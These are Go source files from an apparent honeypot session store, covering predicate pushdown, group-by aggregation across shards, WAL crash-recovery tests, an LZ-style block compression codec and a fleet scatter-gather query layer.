				return triFalse
			case triUnknown:
				out = triUnknown
			}
		}
		return out
	case PredOr:
		out := triFalse
		for _, k := range p.Kids {
			switch triEval(k, env) {
			case triTrue:
				return triTrue
			case triUnknown:
				out = triUnknown
			}
		}
		return out
	case PredNot:
		return triNot(triEval(p.Kids[0], env))
	}
	switch p.Field {
	case FieldMonth:
		return triCmpDefinite(MonthValue(env.month), p.Cmp, p.Val)
	case FieldKind:
		if !env.hasKind {
			return triUnknown
		}
		return triCmpDefinite(KindValue(env.kind), p.Cmp, p.Val)
	case FieldProto:
		if !env.hasProto {
			return triUnknown
		}
		if p.Cmp == CmpMatch || p.Cmp == CmpNotMatch {
			if evalCmp(StringValue(env.proto), p.Cmp, p.Val, p.Re) {
				return triTrue
			}
			return triFalse
		}
		return triCmpDefinite(StringValue(env.proto), p.Cmp, p.Val)
	case FieldStart:
		return triInterval(env.minT, env.maxT, p.Cmp, p.Val.Time)
	case FieldDay:
		// Compare the day-bucket interval of the segment bounds.
		lo := env.minT.UTC().Truncate(24 * time.Hour)
		hi := env.maxT.UTC().Truncate(24 * time.Hour)
		return triInterval(lo, hi, p.Cmp, p.Val.Time)
	}
	return triUnknown
}

// triCmpDefinite compares a known value.
func triCmpDefinite(v Value, cmp CmpOp, val Value) tri {
	if evalCmp(v, cmp, val, nil) {
		return triTrue
	}
	return triFalse
}

// triInterval decides cmp(x, v) where all that is known is
// x ∈ [lo, hi].
func triInterval(lo, hi time.Time, cmp CmpOp, v time.Time) tri {
	all := func(b bool) tri {
		if b {
			return triTrue
		}
		return triUnknown
	}
	switch cmp {
	case CmpLt:
		if !lo.Before(v) {
			return triFalse
		}
		return all(hi.Before(v))
	case CmpLe:
		if lo.After(v) {
			return triFalse
		}
		return all(!hi.After(v))
	case CmpGt:
		if !hi.After(v) {
			return triFalse
		}
		return all(lo.After(v))
	case CmpGe:
		if hi.Before(v) {
			return triFalse
		}
		return all(!lo.Before(v))
	case CmpEq:
		if v.Before(lo) || v.After(hi) {
			return triFalse
		}
		if lo.Equal(hi) && lo.Equal(v) {
			return triTrue
		}
		return triUnknown
	case CmpNe:
		return triNot(triInterval(lo, hi, CmpEq, v))
	}
	return triUnknown
}

// segFromMetadata tries to fold one segment into the table using only
// sealed metadata. It returns false — contributing nothing — when any
// bucket's predicate is undecidable, in which case the caller scans
// the segment's blocks instead.
func segFromMetadata(seg *segmentMeta, q *Query, tr TimeRange, tab *aggTable) bool {
	env := metaEnv{month: seg.month(), minT: seg.MinTime, maxT: seg.MaxTime}
	// The pushed range may cut through the segment: records outside tr
	// must not be counted, and metadata cannot say how many those are.
	if !tr.From.IsZero() && seg.MinTime.Before(tr.From) {
		return false
	}
	if !tr.To.IsZero() && !seg.MaxTime.Before(tr.To) {
		return false
	}

	needKind, needProto := false, false
	for _, f := range q.GroupBy {
		switch f {
		case FieldKind:
			needKind = true
		case FieldProto:
			needProto = true
		}
	}
	predFieldsIn(q.Where, &needKind, &needProto)

	type bucket struct {
		env metaEnv
		n   int
	}
	var buckets []bucket
	switch {
	case needKind:
		for k, n := range seg.Kinds {
			if n == 0 {
				continue
			}
			e := env
			e.kind, e.hasKind = session.Kind(k), true
			buckets = append(buckets, bucket{e, n})
		}
	case needProto:
		if seg.SSH+seg.Telnet != seg.Records {
			return false // records with an unrecorded protocol: scan
		}
		if seg.SSH > 0 {
			e := env
			e.proto, e.hasProto = session.ProtoSSH, true
			buckets = append(buckets, bucket{e, seg.SSH})
		}
		if seg.Telnet > 0 {
			e := env
			e.proto, e.hasProto = session.ProtoTelnet, true
			buckets = append(buckets, bucket{e, seg.Telnet})
		}
	default:
		buckets = append(buckets, bucket{env, seg.Records})
	}

	type hit struct {
		keys []Value
		n    int
	}
	var hits []hit
	for _, b := range buckets {
		if q.Where != nil {
			switch triEval(q.Where, &b.env) {
			case triFalse:
				continue
			case triUnknown:
				return false
			}
		}
		keys := make([]Value, len(q.GroupBy))
		for i, f := range q.GroupBy {
			switch f {
			case FieldMonth:
				keys[i] = MonthValue(b.env.month)
			case FieldKind:
				keys[i] = KindValue(b.env.kind)
			case FieldProto:
				keys[i] = StringValue(b.env.proto)
			}
		}
		hits = append(hits, hit{keys, b.n})
	}
	for _, h := range hits {
		tab.addCount(h.keys, int64(h.n))
	}
	return true
}

// aggTable accumulates streaming group-by state: one row per distinct
// key, mergeable across shards for fleet scatter-gather.
type aggTable struct {
	groupBy []Field
	aggs    []AggSpec
	rows    map[string]*aggRow
}

type aggRow struct {
	keys []Value
	accs []aggAcc
}

type aggAcc struct {
	n        int64
	sum      float64
	min, max Value
	hasMM    bool
	set      map[string]bool
}

func newAggTable(groupBy []Field, aggs []AggSpec) *aggTable {
	return &aggTable{groupBy: groupBy, aggs: aggs, rows: map[string]*aggRow{}}
}

// keyOf encodes group keys into a map key.
func keyOf(keys []Value) string {
	var b strings.Builder
	for _, k := range keys {
		b.WriteByte(byte(k.Kind))
		b.WriteString(k.String())
		b.WriteByte(0)
	}
	return b.String()
}

func (t *aggTable) row(keys []Value) *aggRow {
	k := keyOf(keys)
	r, ok := t.rows[k]
	if !ok {
		r = &aggRow{keys: append([]Value(nil), keys...), accs: make([]aggAcc, len(t.aggs))}
		for i := range r.accs {
			if t.aggs[i].Op == AggCountDistinct {
				r.accs[i].set = map[string]bool{}
			}
		}
		t.rows[k] = r
	}
	return r
}

// addCount folds a metadata bucket of n records into a count-only
// table.
func (t *aggTable) addCount(keys []Value, n int64) {
	r := t.row(keys)
	for i := range r.accs {
		r.accs[i].n += n
	}
}

// addRecord folds one record.
func (t *aggTable) addRecord(rec *session.Record) {
	keys := make([]Value, len(t.groupBy))
	for i, f := range t.groupBy {
		keys[i] = fieldValue(f, rec)
	}
	r := t.row(keys)
	for i, spec := range t.aggs {
		acc := &r.accs[i]
		switch spec.Op {
		case AggCount:
			if spec.Field == FieldNone || fieldValue(spec.Field, rec).Kind != ValNull {
				acc.n++
			}
		case AggCountDistinct:
			if fieldInfos[spec.Field].multi {
				for _, s := range fieldElems(spec.Field, rec) {
					acc.set[s] = true
				}
			} else if v := fieldValue(spec.Field, rec); v.Kind != ValNull {
				acc.set[v.String()] = true
			}
		case AggSum, AggAvg:
			v := fieldValue(spec.Field, rec)
			acc.n++
			if v.Kind == ValInt {
				acc.sum += float64(v.Int)
			} else {
				acc.sum += v.Float
			}
		case AggMin, AggMax:
			v := fieldValue(spec.Field, rec)
			if v.Kind == ValNull {
				break
			}
			if !acc.hasMM {
				acc.min, acc.max, acc.hasMM = v, v, true
			} else {
				if v.less(acc.min) {
					acc.min = v
				}
				if acc.max.less(v) {
					acc.max = v
				}
			}
		}
	}
}

// fieldElems lists a multi-valued field's elements.
func fieldElems(f Field, r *session.Record) []string {
	var out []string
	switch f {
	case FieldUser:
		for i := range r.Logins {
			out = append(out, r.Logins[i].Username)
		}
	case FieldPassword:
		for i := range r.Logins {
			out = append(out, r.Logins[i].Password)
		}
	case FieldURI:
		for i := range r.Downloads {
			out = append(out, r.Downloads[i].URI)
		}
	case FieldHash:
		out = append(out, r.DroppedHashes...)
	}
	return out
}

// merge folds another shard's table in.
func (t *aggTable) merge(o *aggTable) {
	for k, or := range o.rows {
		r, ok := t.rows[k]
		if !ok {
			t.rows[k] = or
			continue
		}
		for i := range r.accs {
			a, b := &r.accs[i], &or.accs[i]
			a.n += b.n
			a.sum += b.sum
			for s := range b.set {
				a.set[s] = true
			}
			if b.hasMM {
				if !a.hasMM {
					a.min, a.max, a.hasMM = b.min, b.max, true
				} else {
					if b.min.less(a.min) {
						a.min = b.min
					}
					if a.max.less(b.max) {
						a.max = b.max
					}
				}
			}
		}
	}
}

// finalize renders sorted group rows.
func (t *aggTable) finalize() []GroupRow {
	out := make([]GroupRow, 0, len(t.rows))
	for _, r := range t.rows {
		row := GroupRow{Keys: r.keys, Aggs: make([]Value, len(t.aggs))}
		for i, spec := range t.aggs {
			acc := &r.accs[i]
			switch spec.Op {
			case AggCount:
				row.Aggs[i] = IntValue(acc.n)
			case AggCountDistinct:
				row.Aggs[i] = IntValue(int64(len(acc.set)))
			case AggSum:
				row.Aggs[i] = sumValue(spec.Field, acc.sum)
			case AggAvg:
				if acc.n == 0 {
					row.Aggs[i] = Value{}
				} else {
					row.Aggs[i] = FloatValue(acc.sum / float64(acc.n))
				}
			case AggMin:
				row.Aggs[i] = acc.min
			case AggMax:
				row.Aggs[i] = acc.max
			}
		}
		out = append(out, row)
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i].Keys, out[j].Keys
		for k := range a {
			if !a[k].equal(b[k]) {
				return a[k].less(b[k])
			}
		}
		return false
	})
	return out
}

// sumValue keeps integer sums integral.
func sumValue(f Field, sum float64) Value {
	if fieldInfos[f].kind == ValInt {
		return IntValue(int64(sum))
	}
	return FloatValue(sum)
}

// RunQuery executes a structured query fleet-wide: aggregation tables
// merge across shards, row queries stream through the canonical
// (month, Start, node) merge order, and plan statistics sum.
func (f *Fleet) RunQuery(q *Query) (*Result, error) {
	ev, err := q.validate()
	if err != nil {
		return nil, err
	}
	total := &PlanStats{}
	if len(q.Aggs) > 0 {
		var tab *aggTable
		for _, sh := range f.shards {
			res, t, err := sh.Store.runQuery(q, ev)
			if err != nil {
				return nil, fmt.Errorf("store: fleet shard %s: %w", sh.Node, err)
			}
			st := res.Stats()
			total.add(&st)
			if total.Mode == "" || total.Mode == st.Mode {
				total.Mode = st.Mode
			} else {
				total.Mode = "hybrid"
			}
			total.From, total.To, total.IP = st.From, st.To, st.IP
			sh.Store.noteQuery(&st)
			if tab == nil {
				tab = t
			} else {
				tab.merge(t)
			}
		}
		if tab == nil {
			tab = newAggTable(q.GroupBy, q.Aggs)
		}
		return &Result{agg: true, rows: tab.finalize(), stats: total}, nil
	}

	// Row mode: pushdown happens per shard inside scanQ; compute the
	// shared plan once.
	tr := intersectRange(q.Time, predTimeRange(q.Where))
	pip, ok := predIP(q.Where)
	ip := q.IP
	if ok && ip == "" {
		ip = pip
	}
	total.From, total.To, total.IP = tr.From, tr.To, ip
	if !ok || (q.IP != "" && pip != "" && q.IP != pip) || emptyRange(tr) {
		total.Mode = "empty"
		return &Result{cur: &FleetCursor{}, limit: q.Limit, stats: total}, nil
	}
	total.Mode = "scan"
	if ip != "" {
		total.Mode = "ip-scan"
	}
	filter := combineFilters(ev, q.Filter)
	mask := q.mask(ip)
	cur := f.scatter(func(s *Store) *Cursor {
		c := s.scanQ(tr, filter, ip, mask, q.Where, total)
		s.queriesTotal.Add(1)
		return c
	})
	if q.OrderBy != FieldNone {
		// The scatter cursor already merges shards in global store
		// order, so the same streaming top-k gives the fleet-wide
		// answer with the same deterministic tie-break.
		rows, err := collectTopK(cur, q.OrderBy, q.Desc, q.Limit)
		if err != nil {
			return nil, err
		}
		if q.Limit > 0 {
			total.TopK = q.Limit
		}
		return &Result{cur: &sliceCursor{rows: rows}, limit: q.Limit, stats: total}, nil
	}
	return &Result{cur: cur, limit: q.Limit, stats: total}, nil
}
