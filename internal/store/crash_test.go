package store

import (
	"math/rand"
	"os"
	"path/filepath"
	"testing"
)

// TestCrashRecoveryProperty is the crash-safety property test: write
// through the store, seal part of the history, then simulate a crash by
// truncating the WAL at a random offset (a torn mid-block write).
// Recovery must lose at most the unsealed, unsynced tail — never a
// sealed segment, never a record that precedes the cut, and never
// produce a duplicate or out-of-order record.
func TestCrashRecoveryProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for trial := 0; trial < 25; trial++ {
		dir := t.TempDir()
		s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
		if err != nil {
			t.Fatal(err)
		}
		sealed := 50 + rng.Intn(150)
		fill(t, s, sealed, 3)
		if err := s.Seal(); err != nil {
			t.Fatal(err)
		}
		tail := rng.Intn(120)
		for i := 0; i < tail; i++ {
			if err := s.Append(mkRecord(i%3, sealed+i)); err != nil {
				t.Fatal(err)
			}
		}
		if err := s.Flush(); err != nil {
			t.Fatal(err)
		}
		// Crash: abandon the store without Close (no final seal).
		s.walF.Close()

		// Tear the WAL at a random offset, as a crash mid-write would.
		walPath := filepath.Join(dir, walName)
		fi, err := os.Stat(walPath)
		if err != nil {
			t.Fatal(err)
		}
		cut := int64(rng.Intn(int(fi.Size()) + 1))
		if err := os.Truncate(walPath, cut); err != nil {
			t.Fatal(err)
		}

		s2, err := Open(dir, Options{})
		if err != nil {
			t.Fatalf("trial %d: recovery failed: %v", trial, err)
		}
		got, err := s2.Load(2)
		if err != nil {
			t.Fatalf("trial %d: load after recovery: %v", trial, err)
		}
		// Sealed records are inviolate; tail loss is bounded by the cut.
		if len(got) < sealed {
			t.Fatalf("trial %d: recovery lost sealed records: %d < %d (cut %d/%d)",
				trial, len(got), sealed, cut, fi.Size())
		}
		if len(got) > sealed+tail {
			t.Fatalf("trial %d: recovery invented records: %d > %d", trial, len(got), sealed+tail)
		}
		// Whatever survived must be an exact prefix of the append history.
		for i, r := range got {
			var want uint64
			if i < sealed {
				want = mkRecord(i%3, i).ID
			} else {
				want = mkRecord((i-sealed)%3, i).ID
			}
			if r.ID != want {
				t.Fatalf("trial %d: record %d has ID %d, want %d (not an append-order prefix)",
					trial, i, r.ID, want)
			}
		}
		// The recovered store must be writable and sealable.
		if err := s2.Append(mkRecord(0, 999_999)); err != nil {
			t.Fatalf("trial %d: append after recovery: %v", trial, err)
		}
		if err := s2.Close(); err != nil {
			t.Fatalf("trial %d: close after recovery: %v", trial, err)
		}
	}
}

// TestStaleWALDiscarded covers the third crash case: a crash after the
// manifest commit but before the WAL reset leaves a WAL whose records
// are all in sealed segments. Reopening must discard it rather than
// replay duplicates.
func TestStaleWALDiscarded(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		t.Fatal(err)
	}
	fill(t, s, 80, 2)
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	walPath := filepath.Join(dir, walName)
	preSeal, err := os.ReadFile(walPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}
	s.walF.Close() // crash without Close

	// Reinstate the pre-seal WAL: exactly the on-disk state of a crash
	// between manifest commit and WAL reset.
	if err := os.WriteFile(walPath, preSeal, 0o644); err != nil {
		t.Fatal(err)
	}

	s2, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	if s2.staleWALDrops.Load() != 1 {
		t.Fatalf("stale WAL drops = %d, want 1", s2.staleWALDrops.Load())
	}
	if got := s2.Len(); got != 80 {
		t.Fatalf("store holds %d records after stale-WAL recovery, want 80 (no duplicates)", got)
	}
}

// TestHeaderlessWALDiscarded: a WAL without the binding header (e.g.
// written by a foreign tool or truncated into the first line) must not
// be replayed as records.
func TestHeaderlessWALDiscarded(t *testing.T) {
	dir := t.TempDir()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, walName),
		[]byte(`{"id":1,"start":"2021-05-01T00:00:00Z","end":"2021-05-01T00:01:00Z","hp":"x","client_ip":"1.2.3.4","proto":"ssh"}`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if s.Len() != 0 {
		t.Fatalf("headerless WAL replayed %d records, want 0", s.Len())
	}
	if s.staleWALDrops.Load() != 1 {
		t.Fatalf("stale drops = %d, want 1", s.staleWALDrops.Load())
	}
}
