package store

import (
	"bytes"
	"compress/flate"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/bits"
)

// Codec names accepted by Options.Codec.
const (
	// CodecLZ is the default block codec for new segments: a
	// dependency-free LZ77 byte-oriented format (hash-table match
	// finder, literal/copy tokens, 64 KiB window) that compresses and
	// decompresses roughly an order of magnitude faster than DEFLATE at
	// a modestly lower ratio. Segments written with it carry the
	// HNSTORE2 magic and `"codec":"lz"` in the manifest.
	CodecLZ = "lz"
	// CodecFlate writes v1 segments (DEFLATE blocks, HNSTORE1 magic),
	// byte-compatible with stores written before the codec existed.
	CodecFlate = "flate"
)

// validCodec reports whether name is a known codec ("" = default).
func validCodec(name string) bool {
	switch name {
	case "", CodecLZ, CodecFlate:
		return true
	}
	return false
}

// blockCodec compresses and decompresses one segment block. Instances
// hold scratch state (hash tables, flate streams) and are not safe for
// concurrent use: sealing creates one per compression worker.
type blockCodec interface {
	// compress appends src's compressed form to dst.
	compress(dst, src []byte) ([]byte, error)
	// decompress fills dst (pre-sized to the block's uncompressed
	// length) from src.
	decompress(dst, src []byte) error
}

// newBlockCodec returns a codec instance by manifest name; "" selects
// flate, matching manifests written before the codec field existed.
func newBlockCodec(name string) (blockCodec, error) {
	switch name {
	case CodecLZ:
		return &lzCodec{}, nil
	case "", CodecFlate:
		return &flateCodec{}, nil
	}
	return nil, fmt.Errorf("store: unknown codec %q", name)
}

// segmentMagic returns the file magic for a codec/layout name.
func segmentMagic(name string) [8]byte {
	switch name {
	case FormatV3:
		return segMagicV3
	case CodecLZ:
		return segMagicV2
	}
	return segMagicV1
}

// flateCodec is the v1 block codec: DEFLATE at the default level.
type flateCodec struct {
	fw  *flate.Writer
	fr  io.ReadCloser
	br  *bytes.Reader
	buf bytes.Buffer
}

func (c *flateCodec) compress(dst, src []byte) ([]byte, error) {
	c.buf.Reset()
	if c.fw == nil {
		c.fw, _ = flate.NewWriter(&c.buf, flate.DefaultCompression)
	} else {
		c.fw.Reset(&c.buf)
	}
	if _, err := c.fw.Write(src); err != nil {
		return dst, err
	}
	if err := c.fw.Close(); err != nil {
		return dst, err
	}
	return append(dst, c.buf.Bytes()...), nil
}

func (c *flateCodec) decompress(dst, src []byte) error {
	if c.br == nil {
		c.br = bytes.NewReader(src)
	} else {
		c.br.Reset(src)
	}
	if c.fr == nil {
		c.fr = flate.NewReader(c.br)
	} else {
		if err := c.fr.(flate.Resetter).Reset(c.br, nil); err != nil {
			return err
		}
	}
	_, err := io.ReadFull(c.fr, dst)
	return err
}

// lzCodec is the v2 block codec. Format, LZ4-flavoured: a stream of
// sequences, each a token byte (high nibble literal length, low nibble
// match length − 4, 15 meaning "extended by following bytes: +255 per
// 0xFF byte, terminated by a byte < 0xFF"), the literals, then a 2-byte
// little-endian back-reference offset (1..65535) and any extended match
// length. The final sequence is literals only (the stream ends after
// them). Integrity is covered by the per-block CRC the manifest already
// stores, so the frame carries no checksum of its own.
type lzCodec struct {
	// table holds biased positions: pos + 1 + off at store time. The
	// bias advances by the input length after every block, so an entry
	// left over from an earlier block always resolves to a negative
	// candidate and is rejected without clearing 64 KiB per block.
	table [1 << lzHashLog]int32
	off   int32
}

const (
	lzHashLog   = 14
	lzHashShift = 32 - lzHashLog
	lzMinMatch  = 4
	lzWindow    = 65535
	// lzTailLits: matches never cover the last bytes of the input, so
	// the tail is always emitted as literals and 4-byte loads inside
	// the match loop stay in bounds.
	lzTailLits = 5
	lzMarginIn = 12
)

func lzHash(u uint32) int { return int((u * 2654435761) >> lzHashShift) }

var errLZCorrupt = errors.New("store: lz block corrupt")

func (c *lzCodec) compress(dst, src []byte) ([]byte, error) {
	n := len(src)
	if n == 0 {
		return dst, nil
	}
	if int64(c.off)+int64(n)+1 > 1<<31-1 {
		clear(c.table[:])
		c.off = 0
	}
	off32 := int(c.off)
	var s, anchor int
	limit := n - lzMarginIn
	for s < limit {
		u := binary.LittleEndian.Uint32(src[s:])
		h := lzHash(u)
		cand := int(c.table[h]) - 1 - off32
		c.table[h] = int32(s + 1 + off32)
		if cand < 0 || s-cand > lzWindow || binary.LittleEndian.Uint32(src[cand:]) != u {
			// No match: skip ahead, accelerating through
			// incompressible runs.
			s += 1 + (s-anchor)>>6
			continue
		}
		// Extend the match backward over pending literals, then
		// forward, leaving the final lzTailLits bytes as literals.
		for s > anchor && cand > 0 && src[s-1] == src[cand-1] {
			s--
			cand--
		}
		mEnd, cEnd, maxEnd := s+lzMinMatch, cand+lzMinMatch, n-lzTailLits
		for mEnd+8 <= maxEnd {
			x := binary.LittleEndian.Uint64(src[mEnd:]) ^ binary.LittleEndian.Uint64(src[cEnd:])
			if x != 0 {
				mEnd += bits.TrailingZeros64(x) >> 3
				goto extended
			}
			mEnd += 8
			cEnd += 8
		}
		for mEnd < maxEnd && src[mEnd] == src[cEnd] {
			mEnd++
			cEnd++
		}
	extended:
		litLen, ml := s-anchor, mEnd-s-lzMinMatch
		token := byte(0x0F)
		if ml < 15 {
			token = byte(ml)
		}
		if litLen < 15 {
			token |= byte(litLen) << 4
		} else {
			token |= 0xF0
		}
		dst = append(dst, token)
		if litLen >= 15 {
			dst = appendLZLen(dst, litLen-15)
		}
		dst = append(dst, src[anchor:s]...)
		off := s - cand
		dst = append(dst, byte(off), byte(off>>8))
		if ml >= 15 {
			dst = appendLZLen(dst, ml-15)
		}
		s = mEnd
		anchor = s
	}
	c.off += int32(n)
	// Final sequence: the remaining bytes as literals, no offset.
	litLen := n - anchor
	if litLen < 15 {
		dst = append(dst, byte(litLen)<<4)
	} else {
		dst = append(dst, 0xF0)
		dst = appendLZLen(dst, litLen-15)
	}
	return append(dst, src[anchor:]...), nil
}

// appendLZLen emits an extended length: v in 0xFF-saturated bytes.
func appendLZLen(dst []byte, v int) []byte {
	for v >= 255 {
		dst = append(dst, 255)
		v -= 255
	}
	return append(dst, byte(v))
}

// decompress is fully bounds-checked: arbitrary src bytes produce an
// error, never a panic or out-of-bounds access (FuzzBlockCodec pins
// this).
func (c *lzCodec) decompress(dst, src []byte) error {
	di, si, sn, dn := 0, 0, len(src), len(dst)
	for si < sn {
		token := int(src[si])
		si++
		litLen := token >> 4
		if litLen == 15 {
			for {
				if si >= sn {
					return errLZCorrupt
				}
				b := int(src[si])
				si++
				litLen += b
				if b != 255 {
					break
				}
			}
		}
		if litLen > 0 {
			if litLen > sn-si || litLen > dn-di {
				return errLZCorrupt
			}
			copy(dst[di:], src[si:si+litLen])
			si += litLen
			di += litLen
		}
		if si == sn {
			break // final sequence: literals only
		}
		if sn-si < 2 {
			return errLZCorrupt
		}
		off := int(src[si]) | int(src[si+1])<<8
		si += 2
		if off == 0 || off > di {
			return errLZCorrupt
		}
		ml := token & 0x0F
		if ml == 15 {
			for {
				if si >= sn {
					return errLZCorrupt
				}
				b := int(src[si])
				si++
				ml += b
				if b != 255 {
					break
				}
			}
		}
		ml += lzMinMatch
		if ml > dn-di {
			return errLZCorrupt
		}
		ref := di - off
		if off >= ml {
			copy(dst[di:di+ml], dst[ref:ref+ml])
			di += ml
		} else {
			// Overlapping copy: replicate the period, doubling the
			// non-overlapping span each pass instead of going byte by
			// byte (long runs of a short pattern are common in JSONL).
			for ml > 0 {
				chunk := di - ref
				if chunk > ml {
					chunk = ml
				}
				copy(dst[di:di+chunk], dst[ref:ref+chunk])
				di += chunk
				ml -= chunk
			}
		}
	}
	if di != dn {
		return errLZCorrupt
	}
	return nil
}
