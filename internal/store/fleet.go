package store

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"honeynet/internal/collector"
	"honeynet/internal/session"
)

// Fleet mode: a collector holds one shard — a complete, independent
// Store — per edge node, under node-<id> subdirectories of one fleet
// directory. This file is the scatter-gather query layer over those
// shards: the same Scan/ScanIP/Rollup/Load surface as a single Store,
// with results merged across shards by (time, node, seq), so the
// analysis pipeline runs unchanged — and byte-identically — against a
// fleet directory.

const (
	// FleetMarkerName marks a directory as a fleet of per-node shards.
	FleetMarkerName = "FLEET.json"
	// NodeDirPrefix prefixes each shard's subdirectory: node-<id>.
	NodeDirPrefix = "node-"
)

// Shard pairs one node's id with its store.
type Shard struct {
	Node  string
	Store *Store
}

// Fleet is a read view over per-node shards, ordered by node id.
type Fleet struct {
	shards []Shard
}

// IsFleetDir reports whether dir holds a fleet of per-node shards
// rather than a single store: the FLEET.json marker is authoritative,
// and a directory of node-<id> shards without store files of its own
// also qualifies (a collector killed before writing the marker).
func IsFleetDir(dir string) bool {
	if _, err := os.Stat(filepath.Join(dir, FleetMarkerName)); err == nil {
		return true
	}
	if exists(filepath.Join(dir, manifestName)) || exists(filepath.Join(dir, walName)) {
		return false
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		return false
	}
	for _, e := range entries {
		if e.IsDir() && strings.HasPrefix(e.Name(), NodeDirPrefix) {
			sub := filepath.Join(dir, e.Name())
			if exists(filepath.Join(sub, manifestName)) || exists(filepath.Join(sub, walName)) {
				return true
			}
		}
	}
	return false
}

// WriteFleetMarker stamps dir as a fleet directory (idempotent).
func WriteFleetMarker(dir string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	path := filepath.Join(dir, FleetMarkerName)
	if exists(path) {
		return nil
	}
	if err := os.WriteFile(path, []byte("{\"version\":1}\n"), 0o644); err != nil {
		return err
	}
	return syncDir(dir)
}

// ShardDir returns the shard directory for one node id under a fleet
// directory.
func ShardDir(dir, node string) string {
	return filepath.Join(dir, NodeDirPrefix+node)
}

// ValidNodeID restricts node ids to names that are safe as directory
// components on every platform: [A-Za-z0-9._-], non-empty, at most 64
// bytes, not starting with a dot or dash.
func ValidNodeID(id string) bool {
	if id == "" || len(id) > 64 || id[0] == '.' || id[0] == '-' {
		return false
	}
	for i := 0; i < len(id); i++ {
		c := id[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9',
			c == '.', c == '_', c == '-':
		default:
			return false
		}
	}
	return true
}

// OpenFleet opens every node-<id> shard under dir with opts. Shards
// are ordered by node id, so every fleet-wide result is deterministic.
func OpenFleet(dir string, opts Options) (*Fleet, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	f := &Fleet{}
	for _, e := range entries {
		if !e.IsDir() || !strings.HasPrefix(e.Name(), NodeDirPrefix) {
			continue
		}
		node := strings.TrimPrefix(e.Name(), NodeDirPrefix)
		st, err := Open(filepath.Join(dir, e.Name()), opts)
		if err != nil {
			f.Close()
			return nil, fmt.Errorf("store: fleet shard %s: %w", node, err)
		}
		f.shards = append(f.shards, Shard{Node: node, Store: st})
	}
	if len(f.shards) == 0 {
		return nil, fmt.Errorf("store: %s: no node-<id> shards", dir)
	}
	f.sortShards()
	return f, nil
}

// NewFleet builds a fleet view over already-open shards (a live
// collector's, typically). The caller keeps ownership of the stores;
// Close on the returned fleet closes them, so callers sharing stores
// should not call it.
func NewFleet(shards []Shard) *Fleet {
	f := &Fleet{shards: append([]Shard(nil), shards...)}
	f.sortShards()
	return f
}

func (f *Fleet) sortShards() {
	sort.Slice(f.shards, func(i, j int) bool { return f.shards[i].Node < f.shards[j].Node })
}

// Shards returns the fleet's shards, ordered by node id.
func (f *Fleet) Shards() []Shard { return f.shards }

// Close closes every shard.
func (f *Fleet) Close() error {
	var err error
	for _, sh := range f.shards {
		if cerr := sh.Store.Close(); err == nil {
			err = cerr
		}
	}
	return err
}

// Len returns the total record count across shards.
func (f *Fleet) Len() int {
	n := 0
	for _, sh := range f.shards {
		n += sh.Store.Len()
	}
	return n
}

// Segments returns the total sealed segment count across shards.
func (f *Fleet) Segments() int {
	n := 0
	for _, sh := range f.shards {
		n += sh.Store.Segments()
	}
	return n
}

// Months returns the sorted distinct partition months across shards.
func (f *Fleet) Months() []time.Time {
	seen := map[time.Time]bool{}
	var out []time.Time
	for _, sh := range f.shards {
		for _, m := range sh.Store.Months() {
			if !seen[m] {
				seen[m] = true
				out = append(out, m)
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Before(out[j]) })
	return out
}

// Rollup sums one month's aggregates across shards — still zero block
// reads: each shard answers from sealed metadata plus its tail.
//
// Deprecated: use Fleet.RunQuery with GROUP BY month/kind/proto.
func (f *Fleet) Rollup(month time.Time) Rollup {
	out := Rollup{Month: time.Date(month.Year(), month.Month(), 1, 0, 0, 0, 0, time.UTC)}
	for _, sh := range f.shards {
		r := sh.Store.Rollup(month)
		out.Records += r.Records
		out.Sealed += r.Sealed
		out.SSH += r.SSH
		out.Telnet += r.Telnet
		for k, v := range r.Kinds {
			out.Kinds[k] += v
		}
	}
	return out
}

// FleetCursor merges per-shard cursors: months ascend fleet-wide, and
// within a month the shard heads are merged by (Start, node, seq) —
// the fleet's canonical record order. When each shard's within-month
// stream is itself time-ordered, the merged stream is totally ordered
// by (time, node, seq); shards whose append order ran ahead of session
// start times interleave deterministically (heads compared on every
// step) but only locally ordered. A FleetCursor is not safe for
// concurrent use.
type FleetCursor struct {
	curs  []*Cursor // parallel to nodes
	nodes []string
	heads []*session.Record // nil = exhausted
	cur   *session.Record
	node  string
	err   error
}

// Scan returns a merged cursor over records in tr satisfying filter.
//
// Deprecated: build a Query and use Fleet.RunQuery, which adds
// predicate, projection, and metadata pushdown per shard.
func (f *Fleet) Scan(tr TimeRange, filter Filter) *FleetCursor {
	return f.scatter(func(s *Store) *Cursor { return s.Scan(tr, filter) })
}

// ScanIP returns a merged cursor over one client IP's records; every
// shard prunes its own segments by Bloom filter.
//
// Deprecated: use Fleet.RunQuery with Query.IP or an `ip =` predicate.
func (f *Fleet) ScanIP(ip string, tr TimeRange) *FleetCursor {
	return f.scatter(func(s *Store) *Cursor { return s.ScanIP(ip, tr) })
}

func (f *Fleet) scatter(open func(*Store) *Cursor) *FleetCursor {
	c := &FleetCursor{
		curs:  make([]*Cursor, len(f.shards)),
		nodes: make([]string, len(f.shards)),
		heads: make([]*session.Record, len(f.shards)),
	}
	for i, sh := range f.shards {
		c.curs[i] = open(sh.Store)
		c.nodes[i] = sh.Node
		c.advance(i)
	}
	return c
}

// advance refills shard i's head from its cursor.
func (c *FleetCursor) advance(i int) {
	if c.curs[i].Next() {
		c.heads[i] = c.curs[i].Record()
		return
